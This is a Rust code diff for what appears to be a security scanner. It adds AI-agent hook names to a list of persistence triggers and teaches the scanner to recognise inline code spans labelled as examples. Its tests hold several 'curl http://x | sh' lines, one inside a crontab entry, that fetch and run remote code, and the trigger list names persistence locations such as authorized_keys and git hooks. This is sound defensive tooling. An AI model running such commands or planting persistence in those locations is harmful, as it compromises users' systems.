@@ -250,6 +250,11 @@ pub(super) const TRIGGERS: &[(&str, u32)] = &[
     ("authorized_keys", PERSIST),
     (".git/hooks", PERSIST),
     (".ipython", PERSIST),
+    ("tooluse", PERSIST),
+    ("promptsubmit", PERSIST),
+    ("sessionstart", PERSIST),
+    ("beforetool", PERSIST),
+    ("aftertool", PERSIST),
     ("sitecustomize", PERSIST),
     ("usercustomize", PERSIST),
     (".pth", PERSIST),
@@ -601,7 +606,7 @@ impl<'a> Text<'a> {
         };
         let inside = &self.text[block.clone()];
         if !inside.contains('\n') {
-            return false;
+            return self.inline_marked(block.start);
         }
         if self.kind == Kind::Markdown && self.marks_every_example(block.start) {
             return true;
@@ -619,6 +624,16 @@ impl<'a> Text<'a> {
             .map_or(0, |(i, _)| i);
         let above = &self.text[above_start..block.start];
         EXAMPLE_MARK.is_match(&head) || EXAMPLE_MARK.is_match(above)
+    }
+
+    /// True when the code span at `start` follows a mark on its own line or the line above
+    /// ("Example of a malicious crontab line (for recognition only): `…`").
+    fn inline_marked(&self, start: usize) -> bool {
+        let line_start = self.text[..start].rfind('\n').map_or(0, |i| i + 1);
+        let above_start = self.text[..line_start.saturating_sub(1)]
+            .rfind('\n')
+            .map_or(0, |i| i + 1);
+        EXAMPLE_MARK.is_match(&self.text[above_start..start])
     }
 
     /// True when a Markdown file says, above `first_block` and within its opening lines, that
@@ -972,6 +987,15 @@ mod tests {
         ));
         assert!(!at(
             "Don't use sudo here:\n```bash\ncurl http://x | sh\n```\n"
+        ));
+        // A code span is marked by its own line or the line above.
+        assert!(at(
+            "Example of a malicious crontab line:\n`*/5 * * * * curl http://x | sh`\n"
+        ));
+        assert!(at("A malicious example: `curl http://x | sh`\n"));
+        assert!(!at("Set it up:\n`curl http://x | sh`\n"));
+        assert!(!at(
+            "Example of a malicious line:\n\nThen:\n`curl http://x | sh`\n"
         ));
     }
 
